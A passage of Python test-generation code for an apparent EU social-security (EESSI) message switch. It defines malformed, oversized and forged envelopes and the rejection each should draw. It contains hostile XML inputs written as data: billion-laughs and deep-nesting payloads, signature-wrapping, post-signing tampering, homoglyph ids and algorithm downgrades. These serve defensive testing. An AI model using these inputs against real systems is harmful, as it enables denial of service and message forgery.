enc_case("bom-after-declaration", _v.encode().replace(b"?>\n", b"?>\xef\xbb\xbf\n", 1), "a BOM (U+FEFF) between the declaration and the root: a character outside the root")
enc_case("declared-ebcdic", _v.replace('encoding="UTF-8"', 'encoding="EBCDIC-US"'), "an EBCDIC encoding declaration over UTF-8 bytes")
enc_case("declared-unknown-encoding", _v.replace('encoding="UTF-8"', 'encoding="x-no-such-charset"'), "an unknown encoding name")
enc_case("declared-latin1-non-ascii", _v.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').replace("Verhoeven", "Verhoeven-\u00e9"),
         "UTF-8 bytes (é = C3 A9) under an ISO-8859-1 declaration, signed by the sender's key: the "
         "body is not one UTF-8 XML document, and a reader honouring the declaration sees "
         "'Verhoeven-Ã©' where a UTF-8 reader sees 'Verhoeven-é' (sent unsigned: the declaration "
         "is refused at check 3, before the signature, and the switch's signer refuses to sign it)",
         sign=None)
enc_case("declared-utf16-over-utf8", _v.replace('encoding="UTF-8"', 'encoding="UTF-16"'), "a UTF-16 declaration over single-byte UTF-8 content")
enc_case("fullwidth-sender", _v.replace(">NL:SVB<", ">\uff2e\uff2c:SVB<", 1), "a sender id in full-width letters", expect="MALFORMED")
wire("encoding", "homoglyph-sender-header", "MALFORMED",
     "eessi-to with a Greek capital Omicron in place of the O of BE:ONSS: not an institution id",
     headers_set={"eessi-to": "BE:\u039fNSS"})

# ---- depth, size, counts ----
def nested(levels: int, empty_innermost: bool) -> str:
    """`levels` nested sed:D elements inside the SED element."""
    if empty_innermost:
        return "<sed:D>" * (levels - 1) + "<sed:D/>" + "</sed:D>" * (levels - 1)
    return "<sed:D>" * levels + "x" + "</sed:D>" * levels

# root = depth 1, the SED element = depth 2: N levels inside it reach depth N + 2.
wire("depth", "depth-256-total-empty-innermost", "SCHEMA_INVALID",
     "254 nested elements inside the SED, the innermost empty: total depth exactly 256 (root 1, "
     "SED 2): allowed, so the signed SED reaches schema validation and fails it there",
     sed_xml=a003_with("<sed:Decision>", nested(254, True) + "<sed:Decision>"))
wire("depth", "depth-256-total-start-end", "SCHEMA_INVALID",
     "total depth exactly 256 with start/end tags and text innermost: allowed, schema-invalid",
     sed_xml=a003_with("<sed:Decision>", nested(254, False) + "<sed:Decision>"))
e = env_defaults("depth-257-total-empty-innermost")
wire("depth", "depth-257-total-empty-innermost", "MALFORMED",
     "total depth 257 through an empty innermost element (sent unsigned: too deep to sign)",
     env=e, body=render(e, a003_with("<sed:Decision>", nested(255, True) + "<sed:Decision>")), sign=None)
e = env_defaults("depth-257-total-start-end")
wire("depth", "depth-257-total-start-end", "MALFORMED",
     "total depth 257 with start/end tags", env=e,
     body=render(e, a003_with("<sed:Decision>", nested(255, False) + "<sed:Decision>")), sign=None)
e = env_defaults("depth-257-in-header")
wire("depth", "depth-257-in-header", "MALFORMED",
     "depth 257 reached inside the SBDH header instead of the SED", env=e,
     body=render(e, A003).replace("<sbdh:HeaderVersion>1.0</sbdh:HeaderVersion>",
                                  "<sbdh:HeaderVersion>1.0</sbdh:HeaderVersion>" + "<x>" * 255 + "</x>" * 255, 1), sign=None)
e = env_defaults("depth-5000")
wire("depth", "depth-5000", "MALFORMED", "5000 nested elements", env=e,
     body=render(e, a003_with("<sed:Decision>", "<a>" * 5000 + "</a>" * 5000 + "<sed:Decision>")), sign=None)
e = env_defaults("depth-100000-unclosed")
wire("depth", "depth-100000-unclosed", "MALFORMED",
     "100000 start tags never closed (stack exhaustion attempt)", env=e, no_body=True, body=None,
     generate={"fill": "<a>", "total": 300000}, sign=None)

wire("size", "exactly-10mib-of-spaces", "MALFORMED",
     "a body of exactly 10 MiB (10,485,760 bytes) of spaces: not over the limit, so it is parsed "
     "and refused as not well-formed (no root element)",
     no_body=True, generate={"fill": " ", "total": MIB10}, sign=None)
wire("size", "10mib-plus-one-of-spaces", "TOO_LARGE",
     "10 MiB + 1 byte of spaces", no_body=True, generate={"fill": " ", "total": MIB10 + 1}, sign=None)
wire("size", "valid-envelope-padded-to-exactly-10mib", "receipt",
     "a valid signed envelope followed by one run of whitespace up to exactly 10 MiB: well-formed, "
     "not over the limit (which is inclusive), and the trailing whitespace is outside the signed "
     "content: accepted",
     generate={"pad_to": MIB10})
wire("size", "valid-envelope-padded-in-chunks-to-exactly-10mib", "receipt",
     "a valid signed envelope followed by comments and whitespace in 1 kB chunks up to exactly "
     "10 MiB: accepted (the limit is inclusive; comments outside the root are not signed content)",
     generate={"pad_to": MIB10, "pad_unit": "\n<!-- padding -->" + " " * 1_000})
wire("size", "valid-envelope-padded-in-chunks-to-10100000", "receipt",
     "the same, padded to 10,100,000 bytes (under 10 MiB)",
     generate={"pad_to": 10_100_000, "pad_unit": "\n<!-- padding -->" + " " * 1_000})
wire("size", "valid-envelope-padded-in-chunks-to-10000001", "receipt",
     "the same, padded to 10,000,001 bytes",
     generate={"pad_to": 10_000_001, "pad_unit": "\n<!-- padding -->" + " " * 1_000})
wire("size", "valid-envelope-padded-in-chunks-to-10000000", "receipt",
     "the same, padded to 10,000,000 bytes: accepted",
     generate={"pad_to": 10_000_000, "pad_unit": "\n<!-- padding -->" + " " * 1_000})
wire("size", "valid-envelope-padded-to-10mib-plus-one", "TOO_LARGE",
     "the same valid signed envelope padded to 10 MiB + 1", generate={"pad_to": MIB10 + 1})
wire("size", "too-large-and-no-headers", "TOO_LARGE",
     "10 MiB + 1 and every eessi header but eessi-from missing: size is decided first (check 2 before 3)",
     headers_remove=[h for h, _ in HEADERS if h != "eessi-from"], no_body=True,
     generate={"fill": "x", "total": MIB10 + 1}, sign=None)
wire("size", "too-large-invalid-utf8", "TOO_LARGE",
     "10 MiB + 1 of 0xFF bytes: refused for size before any decoding",
     no_body=True, generate={"fill_hex": "ff", "total": MIB10 + 1}, sign=None)
wire("size", "too-large-doctype", "TOO_LARGE",
     "a billion-laughs DOCTYPE padded over 10 MiB: size first", generate={"pad_to": MIB10 + 1},
     env=env_defaults("too-large-doctype"),
     body=with_doctype("too-large-doctype", "<!DOCTYPE sbdh:StandardBusinessDocument [" + "".join(laughs) + "]>")[1],
     sign=None)
LIMIT_NOTE = (" -- refused at check 3 as MALFORMED: the switch's own resource limit ({}), decided before "
              "parsing like the contract's depth limit (a deliberate extension, see the closing note)")
wire("size", "attribute-of-65536-bytes-signed", "SCHEMA_INVALID",
     "one attribute of 65,536 bytes on the SED element, signed: refused by the schema",
     generate={"insert_before": 'sedGVer="4"', "prefix": 'big="', "unit": "x", "repeat": 65_536, "suffix": '" '})
wire("size", "attribute-of-65537-bytes-unsigned", "MALFORMED",
     "one attribute of 65,537 bytes on the SED element, unsigned" + LIMIT_NOTE.format("attribute value over 65,536 bytes"),
     generate={"insert_before": 'sedGVer="4"', "prefix": 'big="', "unit": "x", "repeat": 65_537, "suffix": '" '},
     sign=None)
wire("size", "huge-attribute-unsigned", "MALFORMED",
     "one 5 MB attribute on the SED element, unsigned" + LIMIT_NOTE.format("attribute value over 65,536 bytes"),
     generate={"insert_before": 'sedGVer="4"', "prefix": 'huge="', "unit": "x", "repeat": 5_000_000, "suffix": '" '},
     sign=None)
wire("size", "64-attributes-signed", "SCHEMA_INVALID",
     "64 attributes on the SED element (61 + xmlns:sed, sedGVer, sedVer), signed: refused by the schema",
     generate={"insert_before": 'sedGVer="4"', "unit": 'a{n}="1" ', "repeat": 61})
wire("size", "65-attributes-unsigned", "MALFORMED",
     "65 attributes on the SED element, unsigned" + LIMIT_NOTE.format("more than 64 attributes on an element"),
     generate={"insert_before": 'sedGVer="4"', "unit": 'a{n}="1" ', "repeat": 62}, sign=None)
wire("size", "many-attributes-unsigned", "MALFORMED",
     "10,000 distinct attributes on the SED element, unsigned" + LIMIT_NOTE.format("more than 64 attributes on an element"),
     generate={"insert_before": 'sedGVer="4"', "unit": 'a{n}="1" ', "repeat": 10_000}, sign=None)
wire("size", "many-elements-unsigned", "MALFORMED",
     "200,001 empty elements inside the SED (800 kB, depth 3), unsigned" + LIMIT_NOTE.format("at most 200,000 elements"),
     generate={"insert_before": "<sed:Decision>", "unit": "<sed:E/>", "repeat": 200_001}, sign=None)
wire("size", "long-element-name-signed", "SCHEMA_INVALID",
     "an element name of 40,000 characters inside the SED, signed",
     sed_xml=a003_with("<sed:Decision>", "<sed:" + "N" * 40000 + "/><sed:Decision>"))

# ---- namespaces ----
def ns_case(slug, expect, description, body_fn, sign="NL_SVB", **kw):
    e = env_defaults(slug)
    wire("namespaces", slug, expect, description, env=e, body=body_fn(render(e, A003)), sign=sign, **kw)

ns_case("root-wrong-namespace", "MALFORMED", "the envelope root in another namespace (signed)",
        lambda b: b.replace(f'xmlns:sbdh="{SBDH}"', 'xmlns:sbdh="urn:evil:sbdh"', 1))
ns_case("root-no-namespace", "MALFORMED", "the envelope without any namespace (signed)",
        lambda b: b.replace("sbdh:", "").replace(f' xmlns="{SBDH}"', "").replace(f' xmlns:sbdh="{SBDH}"', ""))
ns_case("header-wrong-namespace", "MALFORMED", "the SBDH header element in another namespace",
        lambda b: b.replace("<sbdh:StandardBusinessDocumentHeader>", '<h:StandardBusinessDocumentHeader xmlns:h="urn:evil">', 1)
        .replace("</sbdh:StandardBusinessDocumentHeader>", "</h:StandardBusinessDocumentHeader>", 1))
ns_case("sender-wrong-namespace", "MALFORMED", "the Sender element in another namespace",
        lambda b: b.replace("<sbdh:Sender>", '<h:Sender xmlns:h="urn:evil">', 1).replace("</sbdh:Sender>", "</h:Sender>", 1))
ns_case("prefix-rebound-in-header", "MALFORMED",
        "the sbdh prefix rebound to another URI on DocumentIdentification",
        lambda b: b.replace("<sbdh:DocumentIdentification>", '<sbdh:DocumentIdentification xmlns:sbdh="urn:evil">', 1))
ns_case("sed-namespace-4-1", "MALFORMED", "the SED element in the 4.1 namespace with version 4.2 everywhere else (check 5)",
        lambda b: b.replace(NS42, "http://ec.europa.eu/eessi/ns/4_1", 1))
ns_case("sed-no-namespace", "MALFORMED", "the SED element in no namespace (check 5)",
        lambda b: b.replace("sed:", "").replace(f' xmlns:sed="{NS42}"', ""))
ns_case("sed-in-sbdh-namespace", "MALFORMED", "the SED element in the SBDH namespace: the root holds no SED",
        lambda b: b.replace(f'xmlns:sed="{NS42}"', f'xmlns:sed="{SBDH}"', 1))
ns_case("sed-namespace-trailing-slash", "MALFORMED", "the SED namespace with a trailing slash",
        lambda b: b.replace(NS42, NS42 + "/", 1))
ns_case("sed-namespace-case", "MALFORMED", "the SED namespace in another case (HTTP://EC.EUROPA.EU/...)",
        lambda b: b.replace(NS42, NS42.upper(), 1))
ns_case("sed-element-name-mismatch", "MALFORMED", "header and envelope say A003, the element is sed:A004 (check 5)",
        lambda b: b.replace("<sed:A003 ", "<sed:A004 ", 1).replace("</sed:A003>", "</sed:A004>", 1))
ns_case("sed-children-wrong-namespace", "SCHEMA_INVALID", "the SED element right, its children in another namespace",
        lambda b: b.replace("<sed:InsuredPerson>", '<o:InsuredPerson xmlns:o="urn:other">', 1).replace("</sed:InsuredPerson>", "</o:InsuredPerson>", 1))
ns_case("signature-wrong-namespace", "MALFORMED",
        "the signature's ds prefix bound to another URI after signing: the element is no ds:Signature, "
        "so the root holds header, SED and a third element (check 3)",
        lambda b: b, edits=[rep(f'<ds:Signature xmlns:ds="{DS}">', '<ds:Signature xmlns:ds="urn:not-dsig">')])

# ---- unknown types (check 6) and malformed identifiers in the envelope (check 3) ----
def typed(slug, expect, description, sed_xml=None, **envover):
    e = env_defaults(slug, **envover)
    wire("types", slug, expect, description, env=e, sed_xml=sed_xml)

typed("unknown-buc", "UNSUPPORTED", "LA_BUC_99 does not exist", buc="LA_BUC_99")
typed("unknown-buc-other-sector", "UNSUPPORTED", "ZZ_BUC_01 does not exist", buc="ZZ_BUC_01")
typed("unknown-sed-type", "UNSUPPORTED", "SED type A999 (element sed:A999) does not exist", sed="A999",
      sed_xml=A003.replace("sed:A003", "sed:A999"))
typed("unknown-version-4-9", "UNSUPPORTED", "data-model version 4.9 (namespace ns/4_9)", version="4.9",
      sed_xml=A003.replace(NS42, "http://ec.europa.eu/eessi/ns/4_9").replace('sedVer="2"', 'sedVer="9"'))
typed("unknown-version-4-1", "UNSUPPORTED", "data-model version 4.1, not configured", version="4.1",
      sed_xml=A003.replace(NS42, "http://ec.europa.eu/eessi/ns/4_1").replace('sedVer="2"', 'sedVer="1"'))
typed("unknown-version-99-99", "UNSUPPORTED", "data-model version 99.99", version="99.99",
      sed_xml=A003.replace(NS42, "http://ec.europa.eu/eessi/ns/99_99"))
typed("subprocess-as-buc", "UNSUPPORTED", "a subprocess id (AD_BUC_01) used as the BUC type", buc="AD_BUC_01")
for slug, over, d in [
    ("malformed-buc-type", {"buc": "LA-BUC-02"}, "BUC type LA-BUC-02"),
    ("malformed-sed-type", {"sed": "a003"}, "SED type a003 in lower case"),
    ("malformed-version", {"version": "4.2.1"}, "data-model version 4.2.1"),
    ("malformed-case-id-upper", {"case_id": hid("malformed-case-id-upper", "case").upper()}, "a case id in upper-case hex"),
    ("malformed-case-id-short", {"case_id": "abc"}, "a 3-digit case id"),
    ("malformed-document-id", {"document_id": "g" * 32}, "a document id with non-hex digits"),
    ("malformed-document-version-zero", {"document_version": "0"}, "document version 0"),
    ("malformed-document-version-negative", {"document_version": "-1"}, "document version -1"),
    ("malformed-document-version-huge", {"document_version": "99999999999999999999"}, "a document version beyond any integer type"),
    ("malformed-action", {"action": "Delete"}, "case action Delete"),
    ("malformed-action-lower", {"action": "start"}, "case action 'start' in lower case"),
    ("malformed-sender-role", {"sender_role": "Owner"}, "ContactTypeIdentifier 'Owner'"),
    ("malformed-sender-id", {"from": "NL:svb"}, "sender NL:svb (lower-case local id) in envelope and header"),
    ("malformed-receiver-id", {"to": "BE:ONSS:X"}, "receiver with two colons"),
    ("sender-id-too-long", {"from": "NL:" + "S" * 17}, "a local id of 17 characters"),
    ("header-version-2", {"header_version": "2.0"}, "SBDH HeaderVersion 2.0"),
    ("wrong-standard", {"standard": "urn:evil"}, "DocumentIdentification/Standard is not the EESSI SED standard"),
    ("wrong-authority", {"authority": "urn:evil"}, "Identifier Authority is not the EESSI registry"),
    ("bad-creation-date", {"created": "yesterday"}, "CreationDateAndTime is not a date-time"),
    ("creation-date-no-zone", {"created": "2026-11-27T10:15:00"}, "CreationDateAndTime without a time zone"),
    ("sender-id-whitespace", {"from": " NL:SVB "}, "spaces around the sender id inside the envelope (header without them)"),
]:
    e = env_defaults(slug, **over)
    hs = {}
    if "from" in over:
        # eessi-from stays a usable institution id (else nobody can be answered: dead-letter);
        # the envelope's Sender is what is under test.
        hs = {"eessi-from": "NL:SVB"}
    wire("envelope-fields", slug, "MALFORMED",
         d + " (signed; refused while reading the envelope or the headers, check 3)",
         env=e, headers_set=hs, sed_xml=A003)

# ---- envelope structure (check 3: root children, leaving out ds:Signature, are exactly the header then one SED) ----
def struct(slug, expect, description, body_fn=None, edits=None, sign="NL_SVB"):
    e = env_defaults(slug)
    b = render(e, A003) if body_fn is None else body_fn(render(e, A003))
    wire("envelope-structure", slug, expect, description, env=e, body=b, edits=edits, sign=sign)

struct("two-seds", "MALFORMED", "two SED elements after the header, signed",
       lambda b: b.replace(A003, A003 + "\n" + A003.replace("sed:A003", "sed:A004"), 1))
struct("sed-before-header", "MALFORMED", "the SED before the header",
       lambda b: b.replace("  <sbdh:StandardBusinessDocumentHeader>", "  " + A003 + "\n  <sbdh:StandardBusinessDocumentHeader>", 1).replace("\n  " + A003 + "\n</sbdh", "\n</sbdh", 1))
struct("no-sed", "MALFORMED", "the header and no SED", lambda b: b.replace(A003, "", 1))
struct("no-header", "MALFORMED", "a SED and no header",
       lambda b: b[: b.index("  <sbdh:StandardBusinessDocumentHeader>")] + b[b.index("</sbdh:StandardBusinessDocumentHeader>") + len("</sbdh:StandardBusinessDocumentHeader>"):])
struct("two-headers", "MALFORMED", "the header twice",
       lambda b: b.replace("</sbdh:StandardBusinessDocumentHeader>", "</sbdh:StandardBusinessDocumentHeader>" + b[b.index("<sbdh:StandardBusinessDocumentHeader>"): b.index("</sbdh:StandardBusinessDocumentHeader>") + len("</sbdh:StandardBusinessDocumentHeader>")], 1))
struct("extra-root-child-signed", "MALFORMED", "an extra element after the SED, signed with the rest",
       lambda b: b.replace(ROOT_END, '<x:Extra xmlns:x="urn:x"/>\n' + ROOT_END, 1))
struct("extra-root-child-after-signing", "MALFORMED",
       "an extra element inserted after the signature (structure is checked before the signature)",
       edits=[rep(SIG_END, SIG_END + '<x:Extra xmlns:x="urn:x"/>')])
struct("second-envelope-wrapping", "MALFORMED",
       "signature wrapping: the whole signed document nested inside an evil SED element of a new envelope",
       edits=[rep('<?xml version="1.0" encoding="UTF-8"?>\n', ""),
              {"op": "wrap", "before": '<?xml version="1.0" encoding="UTF-8"?>\n<sbdh:StandardBusinessDocument xmlns:sbdh="' + SBDH + '">' + "<sbdh:StandardBusinessDocumentHeader/>",
               "after": "</sbdh:StandardBusinessDocument>"}])
struct("header-missing-field", "MALFORMED", "HeaderVersion removed from the header",
       lambda b: b.replace("<sbdh:HeaderVersion>1.0</sbdh:HeaderVersion>", "", 1))
struct("header-field-twice", "MALFORMED", "DocumentIdentification/Type twice",
       lambda b: b.replace("<sbdh:Type>A003</sbdh:Type>", "<sbdh:Type>A003</sbdh:Type><sbdh:Type>A004</sbdh:Type>", 1))
struct("header-fields-reordered", "MALFORMED", "Receiver before Sender",
       lambda b: b.replace("<sbdh:Sender>", "<sbdh:Tmp>", 1).replace("</sbdh:Sender>", "</sbdh:Tmp>", 1)
       .replace("<sbdh:Receiver>", "<sbdh:Sender>", 1).replace("</sbdh:Receiver>", "</sbdh:Sender>", 1)
       .replace("<sbdh:Tmp>", "<sbdh:Receiver>", 1).replace("</sbdh:Tmp>", "</sbdh:Receiver>", 1))
struct("scope-case-id-twice", "MALFORMED", "two CaseId scopes (the second names another case)",
       lambda b: b.replace("<sbdh:Scope><sbdh:Type>CaseAction", "<sbdh:Scope><sbdh:Type>CaseId</sbdh:Type><sbdh:InstanceIdentifier>" + hid("other", "case") + "</sbdh:InstanceIdentifier><sbdh:Identifier>LA_BUC_02</sbdh:Identifier></sbdh:Scope><sbdh:Scope><sbdh:Type>CaseAction", 1))
struct("scope-action-missing", "MALFORMED", "no CaseAction scope",
       lambda b: b.replace("<sbdh:Scope><sbdh:Type>CaseAction</sbdh:Type><sbdh:InstanceIdentifier>Start</sbdh:InstanceIdentifier></sbdh:Scope>", "", 1))
struct("scope-unknown-type", "MALFORMED", "an unknown Scope type",
       lambda b: b.replace("<sbdh:Scope><sbdh:Type>CaseAction", "<sbdh:Scope><sbdh:Type>Priority</sbdh:Type><sbdh:InstanceIdentifier>high</sbdh:InstanceIdentifier></sbdh:Scope><sbdh:Scope><sbdh:Type>CaseAction", 1))
struct("scope-case-without-buc", "MALFORMED", "the CaseId scope without the BUC Identifier",
       lambda b: b.replace("<sbdh:Identifier>LA_BUC_02</sbdh:Identifier>", "", 1))
struct("identifier-with-child-element", "MALFORMED", "an element inside the Sender Identifier",
       lambda b: b.replace(">NL:SVB<", "><b>NL:SVB</b><", 1))
struct("signature-inside-header", "MALFORMED",
       "the signature moved into the SBDH header after signing: the header then holds an element "
       "the contract's header does not have (read at check 3, which needs the header to know the signer)",
       edits=[rep("{{SIGNATURE}}", ""), rep("</sbdh:StandardBusinessDocumentHeader>", "{{SIGNATURE}}</sbdh:StandardBusinessDocumentHeader>")])

# ---- AMQP properties and headers (check 3) ----
for h, _ in HEADERS:
    if h == "eessi-from":
        wire("headers-missing", "missing-eessi-from", "dead-letter",
             "eessi-from missing: nobody can be answered, the message goes to eessi.ap.BE.dead",
             headers_remove=[h])
        continue
    wire("headers-missing", f"missing-{h}", "MALFORMED", f"header {h} removed", headers_remove=[h])

MISMATCH = {
    "eessi-from": "NL:UWV",
    "eessi-to": "BE:INASTI",
    "eessi-case-id": hid("mismatch", "case"),
    "eessi-buc": "LA_BUC_04",
    "eessi-sed": "A004",
    "eessi-sed-version": "4.1",
    "eessi-document-id": hid("mismatch", "doc"),
    "eessi-document-version": "2",
    "eessi-case-action": "New",
}
for h, v in MISMATCH.items():
    wire("headers-mismatch", f"mismatch-{h}", "MALFORMED",
         f"header {h} = {v} while the signed envelope says otherwise (check 5)", headers_set={h: v})
wire("headers-mismatch", "mismatch-eessi-from-other-country", "MALFORMED",
     "eessi-from = DE:DRV while the envelope says NL:SVB: the error goes to DE's access point",
     headers_set={"eessi-from": "DE:DRV"})

MALFORMED_HEADERS = {
    "eessi-to": "BE-ONSS",
    "eessi-case-id": "not-a-case-id",
    "eessi-buc": "LA BUC 02",
    "eessi-sed": "A3",
    "eessi-sed-version": "four",
    "eessi-document-id": hid("x", "doc").upper(),
    "eessi-document-version": "1.0",
    "eessi-case-action": "START",
}
for h, v in MALFORMED_HEADERS.items():
    wire("headers-malformed", f"malformed-header-{h}", "MALFORMED", f"header {h} = {v!r}: not the contract's format", headers_set={h: v})
wire("headers-malformed", "malformed-header-eessi-from", "dead-letter",
     "eessi-from = 'nl:svb', not an institution id: nobody can be answered", headers_set={"eessi-from": "nl:svb"})
wire("headers-malformed", "header-value-trailing-space", "MALFORMED", "eessi-sed = 'A003 '", headers_set={"eessi-sed": "A003 "})
wire("headers-malformed", "header-value-empty", "MALFORMED", "eessi-case-id = ''", headers_set={"eessi-case-id": ""})
wire("headers-malformed", "header-name-case", "MALFORMED",
     "Eessi-Sed instead of eessi-sed: header names are exact, so eessi-sed is missing",
     headers_remove=["eessi-sed"], headers_set={"Eessi-Sed": "A003"})
wire("headers-typed", "header-document-version-integer", "MALFORMED",
     "eessi-document-version sent as an AMQP integer 1, not a string", headers_remove=["eessi-document-version"],
     headers_int={"eessi-document-version": 1})
wire("headers-typed", "header-case-action-boolean", "MALFORMED",
     "eessi-case-action sent as an AMQP boolean", headers_remove=["eessi-case-action"], headers_bool={"eessi-case-action": True})
wire("headers-typed", "header-extra-integer", "receipt",
     "an extra header x-count as an integer: the contract's string rule is about its own headers, "
     "and an extra header is ignored", headers_int={"x-count": 7})
wire("headers-typed", "header-from-integer", "dead-letter",
     "eessi-from sent as an integer: no usable eessi-from, nobody can be answered",
     headers_remove=["eessi-from"], headers_int={"eessi-from": 42})

wire("properties", "missing-message-id", "dead-letter", "no message_id property: dead-lettered, never dropped",
     properties_remove=["message_id"])
wire("properties", "empty-message-id", "dead-letter", "message_id = '': dead-lettered", properties_set={"message_id": ""})
wire("properties", "message-id-not-uuid", "MALFORMED", "message_id 'hello' is not a UUID", properties_set={"message_id": "hello-not-a-uuid"})
wire("properties", "message-id-too-long", "MALFORMED", "a 200-character message_id",
     properties_set={"message_id": "0" * 200})
wire("properties", "missing-type", "MALFORMED", "no type property", properties_remove=["type"])
wire("properties", "type-upper-case", "MALFORMED", "type = 'SED'", properties_set={"type": "SED"})
wire("properties", "type-unknown", "MALFORMED", "type = 'notice'", properties_set={"type": "notice"})
wire("properties", "type-receipt-with-sed-body", "no-answer",
     "type = 'receipt' on a SED body: read as a receipt, which does not verify with NL's access "
     "point key: ignored, nothing answered, nothing applied", properties_set={"type": "receipt"})
wire("properties", "type-error-with-sed-body", "no-answer",
     "type = 'error' on a SED body: ignored like any signal that does not verify", properties_set={"type": "error"})
wire("properties", "missing-content-type", "MALFORMED", "no content_type", properties_remove=["content_type"])
wire("properties", "content-type-text-xml", "MALFORMED", "content_type = 'text/xml'", properties_set={"content_type": "text/xml"})
wire("properties", "content-type-json", "MALFORMED", "content_type = 'application/json'", properties_set={"content_type": "application/json"})
wire("properties", "missing-timestamp", "MALFORMED", "no timestamp", properties_remove=["timestamp"])
wire("properties", "missing-app-id", "MALFORMED", "no app_id", properties_remove=["app_id"])
wire("properties", "empty-app-id", "MALFORMED", "app_id = ''", properties_set={"app_id": ""})
wire("properties", "nothing-but-message-id-and-from", "MALFORMED",
     "every property but message_id gone and every header but eessi-from gone",
     properties_remove=["type", "content_type", "timestamp", "app_id"], headers_remove=[h for h, _ in HEADERS if h != "eessi-from"])

# ---- signatures (check 4) ----
def sig(slug, description, expect="SIGNATURE_INVALID", **kw):
    wire("signature", slug, expect, description, **kw)

sig("unsigned", "a well-formed envelope without any signature", sign=None)
sig("tampered-sed-text", "FamilyName changed after signing", edits=[rep("<sed:FamilyName>Verhoeven", "<sed:FamilyName>Dupont")])
sig("tampered-header-field", "the envelope's CreationDateAndTime changed after signing",
    edits=[rep("2026-11-27T10:15:00Z", "2026-11-28T10:15:00Z")])
sig("tampered-attribute", "an attribute value changed after signing", edits=[rep('type="registration"', 'type="other"')])
sig("attribute-added-after-signing", "an attribute added to the SED after signing", edits=[rep('sedGVer="4"', 'evil="1" sedGVer="4"')])
sig("element-added-in-sed-after-signing", "an element added in the SED after signing",
    edits=[rep("<sed:Decision>", "<sed:Extra/><sed:Decision>")])
sig("rogue-key", "signed by ROGUE_NL_SVB: a key claiming NL:SVB that the registry does not hold", sign="ROGUE_NL_SVB")
sig("other-institution-key", "signed by NL:UWV's key and certificate, envelope Sender NL:SVB", sign="NL_UWV")
sig("access-point-key", "signed by NL's access point key (which signs receipts, not SEDs)", sign="AP_NL")
sig("belgian-institution-key", "signed by BE:ONSS's key", sign="BE_ONSS")
sig("embedded-cert-of-other-institution", "signed by NL:SVB, but KeyInfo holds NL:UWV's certificate",
    edits=[rep(cert_b64("NL_SVB"), cert_b64("NL_UWV"))])
sig("registered-cert-rogue-signature", "signed by the rogue key, KeyInfo replaced by NL:SVB's registered certificate",
    sign="ROGUE_NL_SVB", edits=[rep(cert_b64("ROGUE_NL_SVB"), cert_b64("NL_SVB"))])
sig("cert-of-other-signer-matching-key", "signed by NL:UWV (sender NL:SVB) with NL:SVB's certificate in KeyInfo",
    sign="NL_UWV", edits=[rep(cert_b64("NL_UWV"), cert_b64("NL_SVB"))])
sig("missing-keyinfo", "KeyInfo removed", edits=[rep("<ds:KeyInfo>", "<!--"), rep("</ds:KeyInfo>", "-->")])
sig("empty-x509-certificate", "an empty X509Certificate", edits=[rep(cert_b64("NL_SVB"), "")])
sig("two-x509-certificates", "two X509Certificate elements (chain)",
    edits=[rep("</ds:X509Data>", "<ds:X509Certificate>" + cert_b64("AP_NL") + "</ds:X509Certificate></ds:X509Data>")])
sig("keyvalue-instead-of-x509", "KeyInfo holds a KeyValue instead of X509Data",
    edits=[rep("<ds:X509Data>", "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>AA==</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue><ds:X509Data>")])
sig("x509-not-base64", "X509Certificate is not base64", edits=[rep(cert_b64("NL_SVB"), "!!!not base64!!!")])
sig("digest-sha1", "DigestMethod SHA-1", edits=[rep(ALG_SHA256, "http://www.w3.org/2000/09/xmldsig#sha1")])
sig("digest-sha512", "DigestMethod SHA-512", edits=[rep(ALG_SHA256, "http://www.w3.org/2001/04/xmlenc#sha512")])
sig("digest-md5", "DigestMethod MD5", edits=[rep(ALG_SHA256, "http://www.w3.org/2001/04/xmldsig-more#md5")])
sig("signature-method-hmac-sha1", "SignatureMethod HMAC-SHA1", edits=[rep(ALG_RSA256, "http://www.w3.org/2000/09/xmldsig#hmac-sha1")])
sig("signature-method-hmac-sha256-truncated", "HMAC-SHA256 with HMACOutputLength 0",
    edits=[rep(f'<ds:SignatureMethod Algorithm="{ALG_RSA256}"></ds:SignatureMethod>',
               '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>')])
sig("signature-method-rsa-sha1", "SignatureMethod RSA-SHA1", edits=[rep(ALG_RSA256, "http://www.w3.org/2000/09/xmldsig#rsa-sha1")])
sig("signature-method-none", "SignatureMethod 'none'", edits=[rep(ALG_RSA256, "none")])
sig("signature-method-empty", "SignatureMethod with an empty Algorithm", edits=[rep(ALG_RSA256, "")])
sig("signature-method-ecdsa", "SignatureMethod ECDSA-SHA256", edits=[rep(ALG_RSA256, "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256")])
sig("c14n-inclusive", "CanonicalizationMethod inclusive C14N 1.0",
    edits=[rep(f'<ds:CanonicalizationMethod Algorithm="{ALG_EXC}">', '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315">')])
sig("c14n-with-comments", "CanonicalizationMethod exclusive C14N with comments",
    edits=[rep(f'<ds:CanonicalizationMethod Algorithm="{ALG_EXC}">', f'<ds:CanonicalizationMethod Algorithm="{ALG_EXC}WithComments">')])
sig("transform-extra-third", "a third transform (base64) after the two of the profile",
    edits=[rep("</ds:Transforms>", '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"></ds:Transform></ds:Transforms>')])
sig("transform-xpath", "an XPath transform in place of exclusive C14N",
    edits=[rep(f'<ds:Transform Algorithm="{ALG_EXC}"></ds:Transform>',
               '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::sed:Decision)</ds:XPath></ds:Transform>')])
sig("transform-xslt", "an XSLT transform in place of exclusive C14N",
    edits=[rep(f'<ds:Transform Algorithm="{ALG_EXC}"></ds:Transform>', '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"></ds:Transform>')])
sig("transform-only-enveloped", "only the enveloped-signature transform",
    edits=[rep(f'<ds:Transform Algorithm="{ALG_EXC}"></ds:Transform>', "")])
sig("transforms-reversed", "exclusive C14N first, enveloped-signature second",
    edits=[rep(f'<ds:Transform Algorithm="{ALG_ENV}"></ds:Transform><ds:Transform Algorithm="{ALG_EXC}"></ds:Transform>',
